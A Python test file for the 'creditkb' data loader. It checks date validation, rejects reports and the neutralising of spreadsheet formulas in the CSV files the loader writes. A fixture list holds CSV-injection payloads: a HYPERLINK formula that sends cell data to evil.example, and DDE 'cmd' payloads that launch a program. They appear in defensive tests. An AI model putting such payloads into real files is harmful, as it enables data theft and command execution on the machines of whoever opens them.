"""Issue 11, the loader's half: what a load keeps out of its reports and its store, and
what it refuses.  Resident ID numbers in rejects reports and in free text, dates that are
no dates, formulas in the CSV files creditkb writes, the report of a refused file.  Real
files on disk, loaded by the real ``creditkb`` command in a subprocess (where the user
meets it), the store read back from disk."""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import importlib
import io
import os
import re
import subprocess
from pathlib import Path

import httpx
import openpyxl
import pytest
from stdnum.cn import ric, uscc

from creditkb.stores.embedded import EmbeddedStore
from test_cli import CREDITKB, free_port, run, wait_for_health

ROOT = Path(__file__).resolve().parents[1]
SECRET = {"CREDITKB_SECRET": "hardening-test-secret"}


def rid(body17: str) -> str:
    return body17 + ric.calc_check_digit(body17 + "0")  # (stdnum reads 18 characters)


def code(body17: str) -> str:
    return body17 + uscc.calc_check_digit(body17)


def wrong_check(number: str) -> str:
    """The number with its check character mistyped (one of the commonest slips)."""
    return number[:17] + ("0" if number[17] != "0" else "1")


FIRM, FIRM2 = code("91320505MA1MQ7X08"), code("91320211MA1Y4E9K0")
ZHANG = rid("32040219840312035")  # the real numbers a clerk meant
LI = rid("34122119960416311")
WANG = rid("32058319920927073")
ZHAO = rid("32050619881101002")
FIRMS = (
    "统一社会信用代码,企业名称,注册地区划代码,法定代表人姓名,法定代表人身份证号\n"
    f"{FIRM},苏州甲运输有限公司,320505,张三,{ZHANG}\n"
    f"{FIRM2},无锡乙物流有限责任公司,320211,,\n"
)


def write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def load(tmp_path, *paths, max_bad="1", env=None, args=()):
    return run("load", *map(str, paths), "--store", str(tmp_path / "s"), "--max-bad", max_bad,
               "--rejects-dir", str(tmp_path / "rejects"), *args, cwd=tmp_path,
               env={**SECRET, **(env or {})})


def report(tmp_path, name: str) -> list[dict]:
    text = (tmp_path / "rejects" / f"{name}.rejects.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def store_bytes(tmp_path) -> bytes:
    """Everything the embedded store keeps on disk (database and write-ahead log)."""
    return b"".join(p.read_bytes() for p in (tmp_path / "s").iterdir() if p.is_file())


# -- 3. dates -----------------------------------------------------------------------------

PENALTY_HEAD = "处罚决定书文号,对象类型,对象代码,违法行为,处罚决定日期,处罚机关,处罚机关区划代码\n"


def penalty(n: int, day: str) -> str:
    return f"苏交罚〔2024〕{n}号,企业,{FIRM},超速,{day},苏州市交通运输局,320500\n"


def test_csv_date_cells_are_never_excel_day_numbers_and_must_be_plausible(tmp_path):
    assert load(tmp_path, write(tmp_path / "a", "enterprises.csv", FIRMS)).returncode == 0
    cells = ["2026", "202601", "1", "9999-12-31", "0001-01-01", "1905-07-18", "2026-01-05"]
    text = PENALTY_HEAD + "".join(penalty(i, d) for i, d in enumerate(cells, 1))
    out = load(tmp_path, write(tmp_path / "b", "penalties.csv", text))
    assert out.returncode == 0, out.stderr
    assert "7 rows read, 1 loaded, 6 rejected" in out.stdout
    today = dt.date.today()
    window = f"outside the plausible window 1949-10-01 to {today.replace(year=today.year + 10)}"
    reasons = {r["value"]: (r["column"], r["reason"]) for r in report(tmp_path, "penalties")}
    number = "not a date (YYYY-MM-DD): a CSV file's numbers are not read as Excel day numbers"
    assert reasons == {"2026": ("处罚决定日期", number), "202601": ("处罚决定日期", number),
                       "1": ("处罚决定日期", number), "9999-12-31": ("处罚决定日期", window),
                       "0001-01-01": ("处罚决定日期", window), "1905-07-18": ("处罚决定日期", window)}
    store = EmbeddedStore(str(tmp_path / "s"))
    try:
        assert [p.props["decision_date"] for p in store.find_nodes("Penalty")] == ["2026-01-05"]
    finally:
        store.close()


def test_a_workbooks_day_numbers_are_dates_inside_the_window(tmp_path):
    assert load(tmp_path, write(tmp_path / "a", "enterprises.csv", FIRMS)).returncode == 0
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(PENALTY_HEAD.strip().split(","))
    sheet.append(["苏交罚〔2024〕1号", "企业", FIRM, "超速", 45000, "苏州市交通运输局", "320500"])
    sheet.append(["苏交罚〔2024〕2号", "企业", FIRM, "超速", 1, "苏州市交通运输局", "320500"])
    sheet.append(["苏交罚〔2024〕3号", "企业", FIRM, "超速", dt.datetime(2024, 5, 1),
                  "苏州市交通运输局", "320500"])
    book.save(tmp_path / "penalties.xlsx")
    out = load(tmp_path, tmp_path / "penalties.xlsx")
    assert out.returncode == 0, out.stderr
    [bad] = report(tmp_path, "penalties")
    assert (bad["row"], bad["value"]) == ("3", "1") and "outside the plausible window" in bad["reason"]
    store = EmbeddedStore(str(tmp_path / "s"))
    try:
        days = sorted(p.props["decision_date"] for p in store.find_nodes("Penalty"))
    finally:
        store.close()
    assert days == ["2023-03-15", "2024-05-01"]  # Excel day 45000 is 2023-03-15


def test_the_end_of_a_term_may_lie_further_ahead_and_the_window_is_a_setting(tmp_path):
    firms = ("统一社会信用代码,企业名称,注册地区划代码,成立日期\n"
             f"{FIRM},苏州甲运输有限公司,320505,1936-05-01\n{FIRM2},无锡乙,320211,2001-01-01\n")
    out = load(tmp_path, write(tmp_path / "a", "enterprises.csv", firms))
    assert "1 rejected" in out.stdout  # 1936: before the default window
    out = load(tmp_path, write(tmp_path / "b", "enterprises.csv", firms.replace("无锡乙", "无锡乙物流")),
               env={"CREDITKB_DATE_EARLIEST": "1900-01-01"})
    assert "2 rows read, 2 loaded, 0 rejected" in out.stdout, out.stdout + out.stderr
    evaluations = ("对象类型,对象代码,评价体系,信用等级,评价机关,评价机关区划代码,有效期起,有效期止\n"
                   f"企业,{FIRM},道路运输经营者信用评价,A,苏州市交通运输局,320500,2024-01-01,2099-12-31\n"
                   f"企业,{FIRM2},道路运输经营者信用评价,A,苏州市交通运输局,320500,2024-01-01,9999-12-31\n")
    out = load(tmp_path, write(tmp_path / "c", "evaluations.csv", evaluations))
    assert "2 rows read, 1 loaded, 1 rejected" in out.stdout, out.stdout + out.stderr
    [bad] = report(tmp_path, "evaluations")
    assert bad["column"] == "有效期止" and bad["value"] == "9999-12-31"
    bad_setting = load(tmp_path, tmp_path / "c", env={"CREDITKB_DATE_FUTURE_YEARS": "ten"})
    assert bad_setting.returncode == 1 and "CREDITKB_DATE_FUTURE_YEARS='ten'" in bad_setting.stderr


def test_the_apis_as_of_must_be_plausible_too(tmp_path):
    assert load(tmp_path, write(tmp_path / "a", "enterprises.csv", FIRMS)).returncode == 0
    store = ["--store", str(tmp_path / "s")]
    created = run("keys", "create", "--agency", "苏州市交通运输局", "--region", "320500",
                  "--role", "regulator", *store, cwd=tmp_path)
    token = created.stdout.split("key (shown once, only its hash is kept): ")[1].strip()
    port = free_port()
    proc = subprocess.Popen([*CREDITKB, "serve", *store, "--port", str(port)], cwd=tmp_path,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, **SECRET})
    try:
        wait_for_health(proc, port)

        def watchlist(day: str) -> dict:
            query = f'{{ sharedWatchlist(asOf: "{day}") {{ edges {{ cursor }} }} }}'
            return httpx.post(f"http://127.0.0.1:{port}/graphql", json={"query": query},
                              headers={"authorization": f"Bearer {token}"}, timeout=10).json()

        for day in ("0001-01-01", "9999-12-31", "1900-01-01"):
            [error] = watchlist(day)["errors"]
            assert error["extensions"]["code"] == "BAD_USER_INPUT"
            assert error["message"].startswith(f"as_of: {day} is outside the plausible window "
                                               f"1949-10-01 to ")
        assert watchlist("2026-01-01") == {"data": {"sharedWatchlist": {"edges": []}}}
    finally:
        proc.terminate()
        proc.wait(10)


# -- 4. formulas in the CSV files creditkb writes -----------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", " =1+1"]


def test_rejects_reports_neutralise_cells_a_spreadsheet_would_run(tmp_path):
    rows = "".join(f'"{f.replace(chr(34), chr(34) * 2)}",客车,320505\n' for f in FORMULAS)
    path = write(tmp_path / "in", "vehicles.csv", "车牌号码,车辆类型,所在地区划代码\n苏E12345,客车,320505\n"
                 + rows + "苏E23456,客车,-5\n")
    out = load(tmp_path, path)
    assert out.returncode == 0, out.stderr
    values = [r["value"] for r in report(tmp_path, "vehicles")]
    assert values == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'" + FORMULAS[3],
                      "'=1+1", "-5"]  # (cells are stripped; a plain number is no formula)


def test_every_csv_creditkb_writes_goes_through_the_one_helper():
    sources = [p for folder in ("creditkb", "loaders", "api", "queries", "graph_model", "bench")
               for p in (ROOT / folder).rglob("*.py")]
    writers = re.compile(r"\.to_csv\(|csv\.writer|csv\.DictWriter")
    offenders = [str(p.relative_to(ROOT)) for p in sources
                 if p.name != "csv_safety.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


# -- 5. the report of a refused file -------------------------------------------------------


def test_a_refused_file_still_writes_its_report_with_the_files_own_headers(tmp_path):
    vehicles = write(tmp_path / "in", "vehicles.csv",
                     "Plate,车辆类型,所在地区划代码\n苏E12345,客车,320505\n苏E1234,客车,320505\n")
    out = load(tmp_path, vehicles, max_bad="0")
    assert out.returncode == 1
    target = tmp_path / "rejects" / "vehicles.rejects.csv"
    assert f"rejects in {target}" in out.stderr and "row 3, Plate:" in out.stderr
    [bad] = report(tmp_path, "vehicles")
    assert (bad["row"], bad["column"], bad["value"]) == ("3", "Plate", "苏E1234")

    # A profile's headers (无锡's case system), not the exchange format's names.
    head = "案件编号,当事人类型,当事人证件号码,当事人名称,案由,处罚种类,罚没金额（元）,决定日期," \
           "执法机构,执法机构区划,信用影响,案件状态\n"
    agency = "无锡市交通运输综合行政执法支队,320200,一般,有效"
    wuxi = write(tmp_path / "wuxi", "cases.csv",
                 head + f"锡交执罚〔2024〕1号,企业,{FIRM},苏州甲,超限,罚款,100,2024-13-01,{agency}\n"
                 f"锡交执罚〔2024〕2号,企业,{FIRM},苏州甲,超限,罚款,100,2024-12-01,{agency}\n")
    out = load(tmp_path, wuxi, max_bad="0")
    assert out.returncode == 1 and "cases.rejects.csv" in out.stderr
    columns = {r["column"] for r in report(tmp_path, "cases")}
    assert columns == {"当事人证件号码", "决定日期"}  # unknown firm, and no such month


# -- the new modules' examples ---------------------------------------------------------------


@pytest.mark.parametrize("module", [
    "graph_model.dates",
    "queries.dates",
    "graph_model.csv_safety",
])
def test_docstring_examples_run(module):
    result = doctest.testmod(importlib.import_module(module))
    assert result.failed == 0 and result.attempted > 0
